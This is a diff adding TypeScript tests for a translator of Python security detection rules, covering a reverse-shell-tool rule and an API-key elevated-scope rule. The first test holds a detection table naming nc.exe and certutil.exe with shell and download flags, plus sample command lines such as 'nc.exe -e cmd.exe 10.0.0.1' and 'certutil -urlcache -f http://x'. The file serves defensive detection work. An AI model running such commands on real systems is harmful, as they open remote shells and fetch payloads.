@@ -135,3 +135,54 @@ describe('python loops: long constant lists', () => {
     expect(extract(crypto('.rstrip(".")')).reasons).toEqual(['method: rstrip']);
   });
 });
+
+describe('python loops: lists chosen by an event value', () => {
+  it('walks the constant list a dict gives for a split part of a field (crowdstrike_reverse_shell_tool_executed)', () => {
+    const r = extract(
+      lines(
+        'REMOTE_SHELL_TOOLS = {',
+        '    "nc.exe": ["cmd.exe", "powershell.exe", "command.exe"],',
+        '    "certutil.exe": ["-urlcache"],',
+        '}',
+        '',
+        'def rule(event):',
+        '    if event.get("fdr_event_type", "") == "ProcessRollup2":',
+        '        process_name = event.deep_get("event", "ImageFileName", default="").lower().split("\\\\")[-1]',
+        '        command_line = event.deep_get("event", "CommandLine", default="")',
+        '        signatures = REMOTE_SHELL_TOOLS.get(process_name, [])',
+        '        for signature in signatures:',
+        '            if signature in command_line:',
+        '                return True',
+        '    return False',
+      ),
+    );
+    expect(r.reasons).toEqual([]);
+    const event = (image: string, cmd: string) => ({ fdr_event_type: 'ProcessRollup2', event: { ImageFileName: image, CommandLine: cmd } });
+    expect(r.alerts(event('C:\\Tools\\NC.EXE', 'nc.exe -e cmd.exe 10.0.0.1'))).toBe(true);
+    expect(r.alerts(event('C:\\Tools\\nc.exe', 'nc.exe -l 8080'))).toBe(false);
+    expect(r.alerts(event('certutil.exe', 'certutil -urlcache -f http://x'))).toBe(true);
+    expect(r.alerts(event('other.exe', 'cmd.exe'))).toBe(false);
+  });
+
+  it('reads any() over a list under a key chosen by the event type (openai_api_key_anomalous_activity)', () => {
+    const r = extract(
+      lines(
+        'ELEVATED_SCOPES = {"all", "admin"}',
+        '',
+        'def rule(event):',
+        '    if event.get("type") not in ["api_key.created", "api_key.updated"]:',
+        '        return False',
+        '    field = "api_key_created" if event.get("type") == "api_key.created" else "api_key_updated"',
+        '    scopes = event.deep_get(field, "data", "scopes", default=[])',
+        '    return any(scope.lower() in {s.lower() for s in ELEVATED_SCOPES} for scope in scopes if scope)',
+      ),
+    );
+    expect(r.reasons).toEqual([]);
+    expect(r.lines.at(-1)).toBe(
+      '(type eq "api_key.created" and any api_key_created.data.scopes (. in ["all", "admin"])) or (not type eq "api_key.created" and any api_key_updated.data.scopes (. in ["all", "admin"]))',
+    );
+    expect(r.alerts({ type: 'api_key.updated', api_key_updated: { data: { scopes: ['read', 'Admin'] } } })).toBe(true);
+    expect(r.alerts({ type: 'api_key.updated', api_key_created: { data: { scopes: ['admin'] } } })).toBe(false);
+    expect(r.alerts({ type: 'api_key.created', api_key_created: { data: { scopes: ['read', null] } } })).toBe(false);
+  });
+});
